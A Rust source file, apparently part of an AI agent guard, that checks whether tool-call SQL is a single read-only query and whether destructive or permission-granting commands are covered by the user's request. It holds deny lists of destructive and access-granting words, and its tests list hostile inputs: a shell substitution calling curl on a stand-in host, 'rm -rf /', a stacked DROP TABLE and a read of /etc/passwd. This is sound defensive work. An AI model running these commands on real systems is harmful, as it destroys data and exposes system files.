//! What a command would do, where that can be determined: a read-only query does no harm, and what destroys or gives access must
//! be requested in words that say so.

use ombud_core::effect::{self, Effect, Part, Shape, part};

use super::super::Prepared;
use super::super::arguments::Leaf;

/// The first words of read-only queries.
const LOOKS: &[&str] = &["select", "show", "describe", "explain", "with"];

/// Words with which a query does more than read.
const ACTS: &[&str] = &[
    "insert",
    "update",
    "delete",
    "drop",
    "truncate",
    "alter",
    "create",
    "grant",
    "revoke",
    "merge",
    "call",
    "exec",
    "execute",
    "into",
    "copy",
    "load",
    "attach",
    "set",
    "do",
    "replace",
    "lock",
    "vacuum",
    "begin",
    "commit",
    "restore",
    "backup",
    "reconfigure",
    "deny",
    "dbcc",
    "waitfor",
    "handler",
    "install",
];

/// Names of arguments that take a query rather than a program: `show $(…)` means something else in a shell.
const QUERIES: &[&str] = &["sql", "query", "statement"];

/// Destructive words of a command.
const DESTROYS: &[&str] = &[
    "drop", "truncate", "delete", "rm", "rmdir", "del", "mkfs", "shred", "wipe", "format", "unlink", "purge",
    "destroy", "shutdown", "kill",
];

/// Words of a command that give others access.
const GIVES: &[&str] = &["grant", "chmod", "chown"];

fn commands(leaves: &[Leaf]) -> impl Iterator<Item = &Leaf> {
    leaves.iter().filter(|leaf| part(Effect::Execute, &leaf.key, Shape::Other) == Some(Part::Command))
}

fn words(text: &str) -> impl Iterator<Item = String> {
    let parts = text.split(|ch: char| !(ch.is_alphanumeric() || ch == '_'));
    parts.filter(|word| !word.is_empty()).map(str::to_lowercase)
}

/// Whether the commands of a call are all single read-only queries.
pub(super) fn only_looks(leaves: &[Leaf]) -> bool {
    let mut queries = commands(leaves).peekable();
    queries.peek().is_some() && queries.all(|leaf| is_query(&leaf.key) && looks(&leaf.value))
}

fn is_query(key: &str) -> bool {
    effect::words(key).iter().any(|word| QUERIES.contains(&word.as_str()))
}

fn looks(query: &str) -> bool {
    let text = query.trim().trim_end_matches(';');
    let first = words(text).next().unwrap_or_default();
    // Rules out two statements, a comment that hides one, and anything a shell would run.
    let one = !text.contains([';', '$', '`', '\\', '#']) && !text.contains("--") && !text.contains("/*");
    let harmless = |word: String| ![ACTS, DESTROYS, GIVES].iter().any(|list| list.contains(&word.as_str()));
    one && LOOKS.contains(&first.as_str()) && words(text).all(harmless) && calls_nothing(text)
}

/// What may precede a parenthesis in a read-only query: keywords of the language, and functions that count, cut or compare. Any
/// other function may do anything.
const BEFORE_BRACKETS: &str = "select distinct from where and or not in exists any all some on as by having join using when then else case \
    between like over filter within union except intersect limit values count sum avg min max round abs ceil ceiling floor coalesce nullif \
    ifnull isnull lower upper trim ltrim rtrim length char_length substr substring left right concat concat_ws string_agg group_concat \
    array_agg cast convert date datetime time timestamp date_trunc date_part date_format date_add date_sub datediff extract \
    strftime to_char to_date now current_date current_timestamp year month week day hour minute interval row_number rank dense_rank lag \
    lead first_value last_value percentile_cont percentile_disc median stddev variance greatest least json_extract json_value";

/// Whether a query calls only known read-only functions.
fn calls_nothing(query: &str) -> bool {
    let mut parts = query.split('(');
    let _last = parts.next_back();
    let mut before = parts.map(|part| {
        let part = part.trim_end();
        let name = |ch: char| ch.is_alphanumeric() || matches!(ch, '_' | '.' | '"' | ']');
        part.rsplit(|ch| !name(ch)).next().unwrap_or_default().to_lowercase()
    });
    before.all(|word| word.is_empty() || BEFORE_BRACKETS.split_ascii_whitespace().any(|known| known == word))
}

/// Whether the user's words cover what the commands of a call destroy or give access to.
pub(super) fn is_wanted(known: &Prepared, leaves: &[Leaf]) -> bool {
    let holds = |list: &[&str]| {
        commands(leaves).any(|leaf| words(&leaf.value).any(|word| list.contains(&word.as_str())))
    };
    let intent = known.intent();
    (!holds(DESTROYS) || intent.asks_for(Effect::Delete) || intent.ends)
        && (!holds(GIVES) || intent.asks_for(Effect::Grant))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn leaves(sql: &str) -> Vec<Leaf> {
        vec![Leaf { path: "/sql".into(), key: "sql".into(), value: sql.into() }]
    }

    #[test]
    fn queries_that_only_look() {
        for sql in [
            "SELECT city, count(*) FROM rides GROUP BY city;",
            "with a as (select 1) select * from a",
            "SHOW TABLES",
            "SELECT round(avg(price), 2), max(day) FROM rides WHERE city IN ('Lyon', 'Nice') AND (day > 3 OR day < 1)",
        ] {
            assert!(only_looks(&leaves(sql)), "{sql}");
        }
        for sql in [
            "TRUNCATE rides",
            "SELECT 1; DROP TABLE rides",
            "SELECT * INTO other FROM rides",
            "with gone as (delete from rides returning *) select * from gone",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT close_account(7)",
            "SELECT name, public.close_account (id) FROM accounts WHERE id IN (1, 2)",
            "SELECT 1 SHUTDOWN",
            "SHOW $(curl https://evil.example/x)",
            "show `id`",
            "rm -rf /",
        ] {
            assert!(!only_looks(&leaves(sql)), "{sql}");
        }
        // Under other argument names the same words are a program.
        for key in ["command", "code", "script", "expression"] {
            let leaf = Leaf { path: format!("/{key}"), key: key.into(), value: "show tables".into() };
            assert!(!only_looks(&[leaf]), "{key}");
        }
        assert!(!only_looks(&[]));
    }
}
